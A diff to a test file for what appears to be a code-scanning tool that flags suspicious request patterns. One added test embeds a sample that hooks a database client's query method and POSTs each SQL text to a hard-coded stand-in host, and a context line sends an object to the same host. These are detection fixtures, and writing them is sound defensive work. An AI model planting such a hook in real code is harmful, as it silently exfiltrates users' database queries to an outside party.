@@ -44,3 +44,15 @@ it('ends where objects are spread in themselves', async () => {
   const code = `let a = { x: 1 }; for (;;) { a = { ...a, b: { ...a } }; fetch('https://c.example.invalid', a); }`;
   expect(await rulesIn(code)).not.toContain('code/environment-sent');
 });
+
+it('takes no name in the body of a request for its address', async () => {
+  const code = (address: string): string => `exports.trace = (endpoint, driver) => {
+    const { query } = driver.Client.prototype;
+    driver.Client.prototype.query = function (...args) {
+      fetch(${address}, { method: 'POST', body: JSON.stringify({ name: 'pg.query', text: args[0] }) });
+      return query.apply(this, args);
+    };
+  };`;
+  expect(await rulesIn(code("'https://c.example.invalid'"))).toContain('code/request-hook');
+  expect(await rulesIn(code('endpoint'))).not.toContain('code/request-hook');
+});
